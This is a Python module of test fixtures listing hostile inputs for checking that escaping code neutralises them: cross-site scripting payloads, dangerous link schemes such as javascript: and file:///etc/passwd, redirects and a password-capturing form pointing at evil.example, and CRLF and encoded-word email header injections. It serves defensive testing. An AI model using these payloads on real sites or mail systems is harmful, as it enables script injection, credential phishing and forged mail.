"""What would change a page if it were not taken for text."""

# ruff: noqa: E501  (what attackers write is not ours to fold)
from __future__ import annotations

XSS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    '" style="background:url(//evil.example)', "` onmouseover=alert(1) `", "</a><a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<template><script>x</script>",
    "</td></tr></table><h1>x</h1>", "<!--", "--><script>alert(1)</script>", "<!--[if mso]><script>x</script><![endif]-->", "<![CDATA[<script>x</script>]]>",
    "<?php x ?>", "<!DOCTYPE x>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&quot; onclick=x",
    "<\u200bscript>", "\uff1cscript\uff1e", "\u2028<script>\u2029", "<script\u00a0>", "<scr\u00adipt>", "\u202e<script>", "+ADw-script+AD4-", "\\u003cscript\\u003e",
    "{{ '<b>' }}<b>", "{% raw %}<b>{% endraw %}", "%3Cscript%3E", "<b>", "a<b", "a>b", "a&b", "a&amp;b", 'a"b', "a'b", "<a", "<", ">", "&", "&#", '"', "'",
    "[x](javascript:alert(1))", "javascript:alert(1)", "<a href=javascript&colon;alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
)  # fmt: skip

#: As the URL of a link: none of them may come to be one that a browser runs, or that leads elsewhere than it says.
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\x00script:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript:%61lert(1)", "javascript://https://a.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://a.example/x",
    "about:blank", "view-source:https://a.example", "feed:javascript:alert(1)", "jar:https://a.example!/x", "intent://x#Intent;end", "ms-msdt:/id", "tel:1",
    "//evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "http:///evil.example", "https://",
    'https://a.example/" onclick="alert(1)', "https://a.example/' onclick='alert(1)", "https://a.example/><script>alert(1)</script>", "https://a.example/?a=<b>&c='d'",
    "https://a.example/{{ 7 * 191 }}", "https://a.example/\r\nBcc: eve@example.com", "https://a.example/\u2028x", "https://a.example/\u202etxt.exe", "https://a.example/a b",
    "https://a.example\\@evil.example", "https://a.example/&quot; onclick=x", "mailto:ada@example.com?bcc=eve@example.com&body=<b>", "https://a.example/#<svg/onload=x>",
)  # fmt: skip

#: Between a header's text and a header of the attacker's own.
BREAKS = (
    "\r\n", "\n", "\r", "\r\n\r\n", "\n\n", "\r\n ", "\n\t", "\x00", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x7f", "\x85", "\u2028", "\u2029",
    "\\r\\n", "%0d%0a", "%0a", "\u560a", "\u010a", "&#13;&#10;", "=0d=0a", "?=\r\n", "\ud83d", "\u202e", "\ufeff", "\u00ad\r\n", "\x1b[2K\r",
)  # fmt: skip

#: What stands after the break.
SMUGGLED = (
    "Bcc: eve@example.com",
    "Subject: forged",
    "Content-Type: text/html",
    "X-Evil: 1",
    "\r\n<h1>body</h1>",
    "--=_boundary",
    ".\r\nMAIL FROM:<eve@example.com>",
)

#: Words that a mail reader decodes (RFC 2047), with breaks inside.
ENCODED = (
    "=?utf-8?q?Hi=0d=0aBcc:_eve=40example.com?=", "=?utf-8?b?SGkNCkJjYzogZXZlQGV4YW1wbGUuY29t?=", "=?utf-7?q?+AA0ACg-Bcc?=", "=?us-ascii?q?=00?=",
    "=?utf-8?q?a=40b.example?=", "=?utf-8?q?a=0d=0aBcc=3aeve?=", "=?iso-8859-1?q?=61=62=63?=", "=?utf-8?q?a?= =?utf-8?q?b?=", "=?x?q?" + "a" * 40, "?==?", "=?utf-8?q?ada?= <eve@example.com>",
)  # fmt: skip
